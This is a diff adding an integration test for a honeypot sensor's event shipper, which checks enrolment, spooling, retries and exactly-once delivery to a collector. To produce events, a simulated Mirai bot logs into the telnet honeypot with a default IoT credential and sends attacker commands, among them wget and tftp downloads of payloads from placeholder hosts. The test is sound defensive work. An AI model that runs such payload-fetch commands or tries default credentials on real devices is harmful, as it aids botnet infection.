@@ -1,0 +1,100 @@
+/**
+ * The shipper against the real collector (its fastify routes over HTTPS, certificates made with
+ * openssl, SQLite): enrolment with a one-time token, the token kept in the spool dir, every event
+ * delivered and its segment deleted only after the ack; while the collector is down, retries with
+ * back-off and nothing lost; a collector that comes up later receives everything exactly once.
+ */
+import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { createEnrolToken } from "../../src/honeypot/index.js";
+import { freePort, waitFor } from "../helpers/wait.js";
+import { startTestSensor, type TestSensor } from "./sensor-support.js";
+import { makeCerts, TestCollector, type TestCerts } from "./shipper-support.js";
+import { MiraiClient } from "./telnet-mirai-client.js";
+
+let certs: TestCerts;
+let collector: TestCollector;
+let ts: TestSensor | undefined;
+const dataDir = mkdtempSync(path.join(os.tmpdir(), "iotscope-collector-"));
+
+beforeAll(async () => {
+  certs = makeCerts();
+  collector = new TestCollector(dataDir, certs, await freePort());
+  await collector.open();
+});
+afterEach(async () => {
+  await ts?.close();
+  ts = undefined;
+});
+afterAll(async () => {
+  await collector.close();
+  rmSync(dataDir, { recursive: true, force: true });
+  rmSync(certs.dir, { recursive: true, force: true });
+});
+
+async function mirai(port: number, commands: string[]): Promise<void> {
+  const bot = await MiraiClient.connect(port);
+  await bot.prompt();
+  bot.line("root");
+  await bot.prompt();
+  bot.line("xc3511");
+  await bot.prompt();
+  for (const c of commands) {
+    bot.line(c);
+    await bot.prompt();
+  }
+  bot.line("exit");
+  await waitFor(() => bot.closed, "logout");
+}
+
+const segments = (spoolDir: string) => readdirSync(path.join(spoolDir, "segments"));
+
+async function sensorFor(sensor: string) {
+  const { enrol_token } = await createEnrolToken(collector.storage, sensor, { country: "NL" });
+  return startTestSensor({
+    spool: { segment_age_ms: 50, segment_events: 5 },
+    extra: { sensor, collector: { url: collector.url, ca_file: certs.caFile, enrol_token, retry_min_ms: 50, retry_max_ms: 400, heartbeat_s: 0.2 } },
+  });
+}
+
+describe("shipper", () => {
+  it("enrols with a one-time token, keeps the token (0600), ships every event and deletes segments only after the ack", async () => {
+    await collector.start();
+    try {
+      ts = await sensorFor("ship-1");
+      await mirai(ts.port, ["enable", "sh", "/bin/busybox ECCHI", "wget http://192.0.2.5/a.sh"]);
+      await waitFor(async () => (await collector.eventIds("ship-1")).length > 0 && segments(ts!.dir).length === 0, "delivery", 20_000);
+      const token = path.join(ts.dir, "token");
+      expect(statSync(token).mode & 0o777).toBe(0o600);
+      const stored = await collector.eventIds("ship-1");
+      // connect, 4 options, size, login, 5 inputs, download, closed
+      expect(stored.length).toBe(14);
+      expect(ts.sensor.stats().shipped).toBe(14);
+      const sensorRow = await collector.storage.db.selectFrom("honeypot_sensors").selectAll().where("id", "=", "ship-1").executeTakeFirstOrThrow();
+      expect(sensorRow.last_heartbeat).not.toBeNull();
+    } finally {
+      await collector.stop();
+    }
+  });
+
+  it("keeps everything while the collector is down, retries, and delivers each event exactly once when it comes up", async () => {
+    ts = await sensorFor("ship-2");
+    await mirai(ts.port, ["cat /proc/cpuinfo", "tftp -g -r x 192.0.2.7"]);
+    await mirai(ts.port, ["ps"]);
+    // Nothing can be acknowledged: every event stays spooled, in closed segments.
+    await waitFor(() => segments(ts!.dir).every((f) => f.endsWith(".jsonl")), "segments closed");
+    const spooled = ts.events().map((e) => e.id);
+    expect(spooled.length).toBeGreaterThan(20);
+    expect(ts.sensor.stats().shipped).toBe(0);
+    await collector.start();
+    try {
+      await waitFor(() => segments(ts!.dir).length === 0, "the spool to drain", 30_000);
+      const stored = await collector.eventIds("ship-2");
+      expect(stored.sort()).toEqual([...spooled].sort());
+    } finally {
+      await collector.stop();
+    }
+  });
+});
